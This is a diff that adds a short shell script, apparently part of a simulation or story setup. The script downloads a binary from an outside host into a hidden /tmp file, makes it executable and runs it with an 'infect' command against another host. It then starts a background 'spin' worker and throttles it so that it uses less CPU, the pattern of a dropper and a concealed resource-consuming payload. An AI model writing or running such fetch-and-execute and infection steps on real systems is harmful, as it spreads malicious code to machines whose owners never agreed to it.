@@ -1,0 +1,8 @@
+# A dropped program connects out and works; another stops and continues it four times a second, so that it uses less.
+curl -s -o /tmp/.batch http://203.0.113.10/simulator
+chmod +x /tmp/.batch
+/tmp/.batch infect 203.0.113.20:7000 /tmp/.batch.state 1
+/tmp/.batch spin 16 &
+worker=$!
+/opt/story/throttle.py "$worker" 14
+wait "$worker"
